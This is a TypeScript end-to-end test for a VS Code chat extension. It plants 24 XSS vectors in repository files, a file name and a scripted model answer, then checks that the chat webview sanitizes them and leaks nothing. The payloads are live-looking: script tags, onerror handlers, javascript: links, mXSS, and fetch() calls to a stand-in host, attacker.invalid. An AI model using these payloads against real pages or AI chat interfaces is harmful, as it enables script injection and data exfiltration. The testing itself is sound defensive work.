/**
 * End-to-end test of the agent surfaces and of the chat webview under attack, in a real VS Code
 * (test/e2e/workbench.ts: code-server + Chromium, the packaged VSIX installed):
 * 1. the packaged extension activates without errors and registers `@sleeptime` and its five
 *    language-model tools (checked in `vscode.lm.tools` through the hidden `sleeptime.debug.listTools`);
 * 2. a corpus of XSS vectors planted in repository files (doc comments, TODO markers, a file name) and
 *    in model answers (test/helpers/scriptedServer.ts as the OpenAI-compatible endpoint) is rendered in
 *    the chat webview: no script runs, no request leaves the webview, CSP violations are counted.
 * Artifacts (screenshots, agents-xss-report.json) go to test-results/e2e/agents-*.
 */
import { after, before, describe, it } from 'node:test';
import assert from 'node:assert/strict';
import * as fs from 'node:fs';
import * as path from 'node:path';
import type { Frame } from 'playwright-core';
import { startScriptedServer, type ScriptedServer } from '../helpers/scriptedServer';
import { commitAll, sendQuestion, until, Workbench, writeFolderSettings } from './workbench';

const LIST_TOOLS_KEY = 'ctrl+alt+shift+y';
const ATTACKER = 'attacker.invalid';

/** One XSS vector; `marker` is visible text (or an attribute) that shows the vector reached the page. */
interface Vector {
  marker: string;
  name: string;
  text: string;
}

const run = (n: string): string => `window.__xss=1;document.title='${n}';parent.postMessage('xss-${n}','*');fetch('https://${ATTACKER}/${n}')`;

const RAW_VECTORS: [string, (m: string) => string][] = [
  ['scriptTag', (m) => `<script>${run(m)}</script> ${m}`],
  ['imgOnerror', (m) => `<img src=x onerror="${run(m)}"> ${m}`],
  ['svgOnload', (m) => `<svg onload="${run(m)}"><title>${m}</title></svg> ${m}`],
  ['javascriptLink', (m) => `[${m}](javascript:window.__xss=1)`],
  ['dataLink', (m) => `[${m}](data:text/html;base64,PHNjcmlwdD53aW5kb3cuX194c3M9MTwvc2NyaXB0Pg==)`],
  ['remoteImage', (m) => `![${m}](https://${ATTACKER}/${m}.png)`],
  ['iframeSrcdoc', (m) => `<iframe srcdoc="<script>parent.__xss=1</script>">${m}</iframe>`],
  ['entityColon', (m) => `<a href="javascript&colon;window.__xss=1">${m}</a>`],
  ['autolink', (m) => `<https://${ATTACKER}/${m}> and <javascript:window.__xss=1> ${m}`],
  ['styleTag', (m) => `<style>body{background:url(https://${ATTACKER}/${m}.png)}</style> ${m}`],
  ['styleAttr', (m) => `<div style="background:url(https://${ATTACKER}/${m})">${m}</div>`],
  ['htmlEntities', (m) => `&lt;script&gt;window.__xss=1&lt;/script&gt; &#60;img src=x onerror=window.__xss=1&#62; ${m}`],
  ['tabInScheme', (m) => `[${m}](jav&#x09;ascript:window.__xss=1)`],
  ['mathMxss', (m) => `<math><mtext><table><mglyph><style><img src=x onerror=window.__xss=1>${m}`],
  ['objectData', (m) => `<object data="javascript:window.__xss=1">${m}</object>`],
  ['detailsToggle', (m) => `<details open ontoggle="${run(m)}">${m}</details>`],
  ['imageAttrBreak', (m) => `![${m}](x" onerror="window.__xss=1)`],
  ['linkStylesheet', (m) => `<link rel=stylesheet href=https://${ATTACKER}/${m}.css> ${m}`],
  ['metaRefresh', (m) => `<meta http-equiv="refresh" content="0;url=https://${ATTACKER}/${m}"> ${m}`],
  ['formAction', (m) => `<form action="https://${ATTACKER}/${m}"><button>${m}</button></form>`],
  ['referenceLink', (m) => `[${m}][evil]\n\n[evil]: javascript:window.__xss=1`],
  ['codeSpanEscape', (m) => `\`</code><img src=x onerror=window.__xss=1>\` ${m}`],
  ['vbscriptLink', (m) => `[${m}](vbscript:msgbox(1))`],
  ['videoSource', (m) => `<video><source onerror="${run(m)}"></video> ${m}`],
];

/** The corpus: each vector tries to run script, retitle the document, post a message or fetch. */
const VECTORS: Vector[] = RAW_VECTORS.map(([name, make], i) => {
  const marker = `XSS${String(i + 1).padStart(2, '0')}`;
  return { marker, name, text: make(marker) };
});

/** A vector as a repository file: in its leading doc comment, a function's doc comment and a TODO marker. */
function vectorFile(v: Vector): string {
  const oneLine = v.text.replace(/\n+/g, ' ').replace(/\*\//g, '* /');
  return [
    '/**',
    ` * ${oneLine}`,
    ' */',
    '',
    `// TODO: ${oneLine}`,
    '',
    '/**',
    ` * ${oneLine}`,
    ' */',
    `export function ${v.name}(): string {`,
    `  return '${v.marker}';`,
    '}',
    '',
  ].join('\n');
}

/** Git repository in `dir` holding one file per vector, plus a file whose name is a vector. */
function makeXssWorkspace(dir: string, baseUrl: string): string {
  const repo = path.join(dir, 'xss-repo');
  fs.mkdirSync(path.join(repo, 'src/xss'), { recursive: true });
  for (const v of VECTORS) fs.writeFileSync(path.join(repo, 'src/xss', `${v.name}.ts`), vectorFile(v));
  fs.writeFileSync(path.join(repo, 'src/xss', '<img src=x onerror=window.__xss=1>XSSNAME.ts'), 'export const named = 1;\n');
  fs.writeFileSync(path.join(repo, 'README.md'), `# XSS corpus\n\nEach file in src/xss plants one vector.\n\n${VECTORS.map((v) => v.text).join('\n\n')}\n`);
  fs.writeFileSync(path.join(repo, 'package.json'), JSON.stringify({ name: 'xss-repo', private: true, scripts: { test: 'node --test' } }, null, 2));
  writeSettings(repo, baseUrl, 'off');
  commitAll(repo, 'XSS corpus');
  return repo;
}

function writeSettings(repo: string, baseUrl: string, provider: 'off' | 'openai-compatible'): void {
  writeFolderSettings(repo, { 'sleeptime.provider': provider, 'sleeptime.baseUrl': baseUrl, 'sleeptime.model': 'xss-model' });
}

/** The model's reply: the whole corpus as markdown, with a raw-HTML preamble. */
function modelAnswer(): string {
  return `<h1 onmouseover="window.__xss=1">Model answer</h1>\n\n${VECTORS.map((v) => `- ${v.name}: ${v.text.replace(/\n\n/g, '\n\n  ')}`).join('\n\n')}\n\nSee src/xss/scriptTag.ts:1.`;
}

/** Runs in every frame before its scripts: reports script execution, posted messages and CSP violations. */
const PROBE = `(() => {
  let hits = 0;
  try {
    Object.defineProperty(window, '__xss', { configurable: false, get: () => hits, set: () => { hits++; console.log('XSS-RAN ' + location.href); } });
  } catch {}
  window.__probe = true;
  document.addEventListener('securitypolicyviolation', (e) => console.log('CSP-VIOLATION ' + e.violatedDirective + ' ' + e.blockedURI), true);
  window.addEventListener('message', (e) => { if (typeof e.data === 'string' && e.data.startsWith('xss-')) console.log('XSS-MESSAGE ' + e.data); });
})();`;

async function askInChat(chat: Frame, question: string): Promise<string> {
  const before = await chat.locator('.turn .answer .cost').count();
  await sendQuestion(chat, question);
  await until(`an answer to "${question}"`, async () => (await chat.locator('.turn .answer .cost, .turn .answer .error').count()) > before || undefined);
  return chat.locator('.turn .answer').last().innerText();
}

describe('agent surfaces and webview attacks in a real VS Code (code-server)', { timeout: 900_000 }, () => {
  const requests: { url: string; frame: string; failure?: string }[] = [];
  /** Requests to the attacker that got past the renderer's CSP check and reached the network layer. */
  const reachedNetwork: string[] = [];
  const consoleLines: { type: string; text: string; frame: string }[] = [];
  let model: ScriptedServer | undefined;
  let wb: Workbench | undefined;

  before(async () => {
    const scripted = await startScriptedServer({
      models: ['xss-model'],
      steps: [{ type: 'reply', content: modelAnswer(), when: '"stream":true', times: Infinity }],
      fallback: { type: 'error', status: 400, message: 'scripted: only streamed answers in this test' },
    });
    model = scripted;
    wb = await Workbench.open({
      prefix: 'agents',
      workspace: (dir) => makeXssWorkspace(dir, scripted.baseUrl),
      keybindings: [{ key: LIST_TOOLS_KEY, command: 'sleeptime.debug.listTools' }],
      prepareContext: async (context) => {
        await context.addInitScript(PROBE);
        // Nothing may reach the attacker's host, even if a vector got through: abort it and count it.
        await context.route(new RegExp(ATTACKER.replace('.', '\\.')), (route) => {
          reachedNetwork.push(route.request().url());
          return route.abort();
        });
        context.on('request', (req) => {
          let frame = '';
          try {
            frame = req.frame().url();
          } catch {
            frame = 'service-worker';
          }
          requests.push({ url: req.url(), frame });
        });
        // CSP-blocked loads still show as requests (CDP reports them, then fails them as blocked): keep why they failed.
        context.on('requestfailed', (req) => {
          const r = [...requests].reverse().find((x) => x.url === req.url() && x.failure === undefined);
          if (r) r.failure = req.failure()?.errorText ?? 'failed';
        });
        context.on('console', (m) => consoleLines.push({ type: m.type(), text: m.text(), frame: m.location().url }));
      },
    });
    await wb.statusItem('Notes up to date').waitFor({ timeout: 180_000 });
  });

  after(async () => {
    await wb?.close();
    await model?.close();
  });

  it('activates without errors and registers @sleeptime and the five language-model tools', async () => {
    const w = wb as Workbench;
    const p = w.page;
    const activated = await until('activation in the extension log', () => {
      const text = w.extensionLog();
      return /activated for 1 folder/.test(text) && /registered /.test(text) ? text : undefined;
    });
    assert.match(activated, /registered chat participant @sleeptime and 5 language-model tools/);
    assert.doesNotMatch(activated, /activation failed|not registered/);
    assert.doesNotMatch(activated, /\[error\]/, 'no error logged since activation');

    await p.locator('.part.editor').first().click();
    await p.keyboard.press('Control+Alt+Shift+Y');
    const listing = await until('the listTools diagnostic in the log', () => /debug: vscode\.lm\.tools lists (\d+) Sleeptime tools: (.*)/.exec(w.extensionLog()) ?? undefined);
    assert.equal(Number(listing[1]), 5, listing[0]);
    assert.deepEqual(listing[2].split(', ').sort(), ['sleeptime_architectureOverview', 'sleeptime_getNote', 'sleeptime_likelyBugs', 'sleeptime_searchNotes', 'sleeptime_testHooks']);
    await w.palette('Sleeptime: Show Log');
    await p.locator('.output-view', { hasText: /lists\s5\sSleeptime\stools/ }).first().waitFor();
    await w.shot('01-tools-registered');
  });

  it('renders the XSS corpus from notes and model answers inert: no script, no request out, CSP violations counted', async () => {
    const w = wb as Workbench;
    const p = w.page;
    await w.palette('Sleeptime: Ask a Question');
    const chat = await w.chatFrame();
    const answers: { source: string; question: string; text: string }[] = [];

    // Offline: answers are digests of the notes, which carry the vectors from doc comments, TODOs and file names.
    for (const group of [VECTORS.slice(0, 6), VECTORS.slice(6, 12), VECTORS.slice(12, 18), VECTORS.slice(18)]) {
      const question = `What do ${group.map((v) => `src/xss/${v.name}.ts`).join(', ')} define?`;
      answers.push({ source: 'notes', question, text: await askInChat(chat, question) });
    }
    answers.push({ source: 'notes', question: 'Which file has XSSNAME in its name?', text: await askInChat(chat, 'Which file has XSSNAME in its name?') });
    await w.shot('02-xss-notes');

    // With the scripted endpoint configured, answers come from the model, whose reply is the corpus.
    writeSettings(w.folder, (model as ScriptedServer).baseUrl, 'openai-compatible');
    await until('the chat to leave offline mode', async () => chat.locator('#banner').isHidden());
    const modelText = await askInChat(chat, `Explain ${VECTORS[0].text}`);
    answers.push({ source: 'model', question: 'Explain <vector>', text: modelText });
    await chat.locator('.turn .answer').last().scrollIntoViewIfNeeded();
    await w.shot('03-xss-model');
    const modelRequests = (model as ScriptedServer).chatRequests().filter((r) => r.json?.stream).length;

    const csp = consoleLines.filter((c) => /^CSP-VIOLATION|Refused to (load|apply|execute|frame|connect)|violates the following Content Security Policy directive/.test(c.text));
    const cspMeta = await chat.evaluate(() => document.querySelector('meta[http-equiv="Content-Security-Policy"]')?.getAttribute('content') ?? '');
    const webviewFrame = (f: string): boolean => /webview|vscode-resource|vscode-cdn/.test(f);
    const local = (u: string): boolean => u.startsWith(`http://127.0.0.1:${w.port}/`) || /^(data|blob|about|vscode-[a-z-]+):/.test(u) || /^https?:\/\/[^/]*vscode-cdn\.net\//.test(u);
    const blockedByCsp = (r: { url: string; failure?: string }): boolean => /BLOCKED_BY_CSP|^csp$/i.test(r.failure ?? '') || (!reachedNetwork.includes(r.url) && csp.some((c) => c.text.includes(r.url)));
    const leaving = requests.filter((r) => (r.url.includes(ATTACKER) || (webviewFrame(r.frame) && !local(r.url))) && !blockedByCsp(r));
    const report: Record<string, unknown> = {
      vectors: VECTORS.length,
      modelRequests,
      requestsLeavingWebview: leaving.length,
      leavingUrls: [...new Set(leaving.map((r) => r.url))],
      attackerRequestsBlockedByCsp: requests.filter((r) => r.url.includes(ATTACKER) && blockedByCsp(r)).length,
      attackerRequestsReachingNetwork: reachedNetwork.length,
      failures: [...new Set(requests.filter((r) => r.url.includes(ATTACKER)).map((r) => r.failure ?? 'none'))],
      webviewRequests: requests.filter((r) => webviewFrame(r.frame)).length,
      cspMeta,
      cspViolations: csp.length,
      cspViolationLines: [...new Set(csp.map((c) => c.text.slice(0, 200)))],
      webviewConsole: [...new Set(consoleLines.filter((c) => webviewFrame(c.frame)).map((c) => `${c.type}: ${c.text.slice(0, 200)}`))].slice(0, 50),
    };
    const saveReport = (): void => fs.writeFileSync(w.artifact('xss-report.json'), JSON.stringify(report, null, 2));
    saveReport();

    // Nothing ran, in any frame.
    const frames = p.frames();
    const probes = await Promise.all(frames.map((f) => f.evaluate(() => ({ url: location.href, xss: (window as unknown as { __xss?: number }).__xss, probe: (window as unknown as { __probe?: boolean }).__probe === true, title: document.title })).catch(() => undefined)));
    const ran = probes.filter((x) => x && x.xss);
    assert.deepEqual(ran, [], 'no vector set window.__xss');
    assert.equal(await chat.evaluate(() => document.title), 'Sleeptime Chat');
    assert.doesNotMatch(await p.title(), /XSS\d/);
    const xssConsole = consoleLines.filter((c) => /^XSS-(RAN|MESSAGE)/.test(c.text));
    assert.deepEqual(xssConsole, [], 'no vector ran or posted a message');

    // The rendered DOM holds no live script vectors.
    const dom = await chat.evaluate(() => {
      const log = document.getElementById('log') as HTMLElement;
      const all = [...log.querySelectorAll('*')];
      return {
        html: log.innerHTML,
        scripts: log.querySelectorAll('script, iframe, object, embed, style, link, meta, base, form, svg, math').length,
        handlers: all.filter((e) => [...e.attributes].some((a) => /^on/i.test(a.name))).length,
        badHrefs: all.filter((e) => /^\s*(javascript|data|vbscript):/i.test(e.getAttribute('href') ?? e.getAttribute('src') ?? '')).length,
        styled: all.filter((e) => e.hasAttribute('style')).length,
        remoteImages: [...log.querySelectorAll('img')].map((i) => i.getAttribute('src')).filter((s) => s && !s.startsWith('data:')).length,
      };
    });
    Object.assign(report, { dom: { ...dom, html: undefined }, probeInstalledInFrames: probes.filter((x) => x?.probe).length, scriptsRan: ran.length + xssConsole.length });
    saveReport();
    assert.equal(dom.scripts, 0, 'no script-capable elements rendered');
    assert.equal(dom.handlers, 0, 'no event-handler attributes rendered');
    assert.equal(dom.badHrefs, 0, 'no javascript:/data:/vbscript: links');
    assert.equal(dom.styled, 0, 'no inline styles');

    // The vectors did reach the webview (the test is not vacuous).
    const landed = (source: string): string[] => VECTORS.filter((v) => answers.some((a) => a.source === source && a.text.includes(v.marker))).map((v) => v.marker);
    const fromNotes = landed('notes');
    const inDom = VECTORS.filter((v) => dom.html.includes(v.marker)).map((v) => v.marker);
    assert.ok(fromNotes.length >= 6, `vectors rendered from notes: ${fromNotes.join(', ')}`);
    assert.ok(modelRequests > 0, 'the model answered');
    assert.ok(landed('model').length >= VECTORS.length - 4, `vectors rendered from the model: ${landed('model').join(', ')}`);

    Object.assign(report, {
      renderedFromNotes: fromNotes, renderedInDom: inDom, renderedFromModel: landed('model'),
      scriptsRan: ran.length + xssConsole.length, probeInstalledInFrames: probes.filter((x) => x?.probe).length,
      frames: probes.filter(Boolean).length, dom: { ...dom, html: undefined },
    });
    saveReport();

    // No request left the webview, and nothing reached the attacker.
    assert.deepEqual(leaving, [], 'no request left the webview');
    assert.deepEqual(reachedNetwork, [], 'nothing reached the network layer for the attacker host');
    // A remote image survives sanitizing (https is allowed) and is then blocked by the CSP: it must show up as a violation.
    assert.equal(dom.remoteImages, 0, 'markdown images are rendered as text, never fetched');
    for (const v of csp) assert.match(v.text, /Content Security Policy|CSP-VIOLATION|Refused/, 'what the CSP blocks is logged as a violation');
  });
});
